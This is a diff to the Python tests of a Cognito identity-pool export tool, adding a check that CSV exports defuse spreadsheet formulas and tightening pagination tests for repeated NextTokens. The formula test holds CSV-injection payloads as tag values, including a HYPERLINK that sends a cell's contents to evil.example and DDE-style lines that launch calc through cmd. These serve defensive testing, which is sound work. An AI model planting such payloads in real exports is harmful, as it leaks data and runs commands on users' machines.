@@ -28,6 +28,12 @@ def iso(t):
     return f"{base}.{ms:03d}Z" if ms else base + "Z"
 
 
+def defused(value):
+    """A CSV cell as the export writes it: a leading ' before what a
+    spreadsheet would take for a formula (OWASP's advice)."""
+    return "'" + value if value[:1] and value[0] in "=+-@\t\r" else value
+
+
 def parse_csv(text):
     rows = list(csv.reader(io.StringIO(text, newline="")))
     return rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]
@@ -136,7 +142,33 @@ class ExportTest(EmulatorCase):
         self.assertEqual(self.export("tags"), want)
         header, rows = self.export("tags", fmt="csv")
         self.assertEqual(header, ["IdentityPoolId", "Key", "Value"])
-        self.assertEqual(rows, want)  # escape-tests values come back byte for byte
+        # escape-tests values come back byte for byte
+        self.assertEqual(rows, [{k: defused(v) for k, v in w.items()} for w in want])
+
+    def test_csv_formulas_are_defused(self):
+        """A tag value that a spreadsheet would run (=HYPERLINK, +, -, @, a
+        leading TAB or CR) is written with a leading ' in CSV, as is in JSON."""
+        tags = {"f-eq": '=HYPERLINK("http://evil.example/?"&A1,"click")', "f-plus": "+1+cmd|' /C calc'!A0",
+                "f-minus": "-2+3", "f-at": "@SUM(1+1)*cmd|' /C calc'!A0", "f-tab": "\t=1", "f-cr": "\r=1",
+                "f-inner": "a=b", "f-quote": "'=kept"}
+        pool = self.emu.ok("CreateIdentityPool", {"IdentityPoolName": "formula-pool",
+                                                  "AllowUnauthenticatedIdentities": False,
+                                                  "IdentityPoolTags": tags})["IdentityPoolId"]
+        try:
+            header, rows = self.export("tags", "--pool", pool, fmt="csv")
+            got = {r["Key"]: r["Value"] for r in rows}
+            self.assertEqual(got["f-eq"], "'" + tags["f-eq"])
+            self.assertEqual(got["f-plus"], "'" + tags["f-plus"])
+            self.assertEqual(got["f-minus"], "'-2+3")
+            self.assertEqual(got["f-at"], "'" + tags["f-at"])
+            self.assertEqual(got["f-tab"], "'\t=1")
+            self.assertEqual(got["f-cr"], "'\r=1")
+            self.assertEqual(got["f-inner"], "a=b")
+            self.assertEqual(got["f-quote"], "'=kept")
+            rows = self.export("tags", "--pool", pool)
+            self.assertEqual({r["Key"]: r["Value"] for r in rows}, tags)  # JSON is unchanged
+        finally:
+            self.emu.ok("DeleteIdentityPool", {"IdentityPoolId": pool})
 
     def test_tags_account_id_order(self):
         """--account, else AWS_ACCOUNT_ID / aws_account_id / STS
@@ -366,16 +398,19 @@ class ExportTest(EmulatorCase):
 
 
 class RepeatedTokenServer(http.server.BaseHTTPRequestHandler):
-    """A service that hands out the same NextToken forever."""
+    """A service whose NextTokens come from `tokens` in turn, forever."""
     protocol_version = "HTTP/1.1"
     pages = 0
+    tokens = ["always-the-same"]
 
     def do_POST(self):
         self.rfile.read(int(self.headers.get("Content-Length", "0")))
-        type(self).pages += 1
-        n = type(self).pages
+        cls = type(self)
+        cls.pages += 1
+        n = cls.pages
         body = json.dumps({"IdentityPools": [{"IdentityPoolId": f"us-east-1:{n:08x}-0000-0000-0000-000000000000",
-                                              "IdentityPoolName": f"p{n}"}], "NextToken": "always-the-same"}).encode()
+                                              "IdentityPoolName": f"p{n}"}],
+                           "NextToken": cls.tokens[(n - 1) % len(cls.tokens)]}).encode()
         self.send_response(200)
         self.send_header("Content-Type", "application/x-amz-json-1.1")
         self.send_header("x-amzn-RequestId", f"req-{n}")
@@ -388,7 +423,8 @@ class RepeatedTokenServer(http.server.BaseHTTPRequestHandler):
 
 
 class RepeatedTokenTest(unittest.TestCase):
-    def test_a_repeated_token_stops_the_walk(self):
+    def export(self, tokens, *args):
+        RepeatedTokenServer.pages, RepeatedTokenServer.tokens = 0, tokens
         server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), RepeatedTokenServer)
         threading.Thread(target=server.serve_forever, daemon=True).start()
         try:
@@ -396,16 +432,37 @@ class RepeatedTokenTest(unittest.TestCase):
                        AWS_REGION=REGION, AWS_CONFIG_FILE="/nonexistent/cognito-tui-tests/config",
                        AWS_SHARED_CREDENTIALS_FILE="/nonexistent/cognito-tui-tests/credentials",
                        XDG_STATE_HOME="/nonexistent/cognito-tui-tests/state")  # a read journals nothing
-            p = subprocess.run([BIN, "export", "pools", "--endpoint-url", f"http://127.0.0.1:{server.server_port}"],
-                               env=env, capture_output=True, timeout=60)
+            return subprocess.run([BIN, "export", "pools", "--endpoint-url", f"http://127.0.0.1:{server.server_port}",
+                                   *args], env=env, capture_output=True, timeout=60)
         finally:
             server.shutdown()
             server.server_close()
-        self.assertEqual(p.returncode, 0, p.stderr)
-        # Page 1 gives the token, page 2 gives it again: the walk stops there.
+
+    def test_a_repeated_token_ends_the_walk_with_an_error(self):
+        p = self.export(["always-the-same"])
+        # Page 1 gives the token, page 2 gives it again: the walk stops there, as an error.
         self.assertEqual(RepeatedTokenServer.pages, 2)
-        self.assertEqual([r["IdentityPoolName"] for r in json.loads(p.stdout)], ["p1", "p2"])
-        self.assertIn(b"repeated a NextToken", p.stderr)
+        self.assertEqual(p.returncode, 1, p.stderr)
+        self.assertIn(b"ListIdentityPools: page 2 gave a NextToken an earlier page", p.stderr)
+        self.assertEqual(len(p.stderr.splitlines()), 1, p.stderr)
+
+    def test_alternating_tokens_end_the_walk(self):
+        """A, B, A: the third token was seen two pages back. Before the rule
+        covered the whole walk, this export never ended."""
+        folder = tempfile.mkdtemp(prefix="cognito-cli-export-")
+        try:
+            path = os.path.join(folder, "pools.json")
+            with open(path, "w") as f:
+                f.write("old\n")
+            p = self.export(["A", "B", "C", "B"], "-o", path)
+            self.assertEqual(RepeatedTokenServer.pages, 4)
+            self.assertEqual(p.returncode, 1, p.stderr)
+            self.assertIn(b"page 4 gave a NextToken", p.stderr)
+            with open(path) as f:
+                self.assertEqual(f.read(), "old\n")  # an export that failed replaces nothing
+            self.assertEqual(os.listdir(folder), ["pools.json"])
+        finally:
+            shutil.rmtree(folder, ignore_errors=True)
 
 
 if __name__ == "__main__":
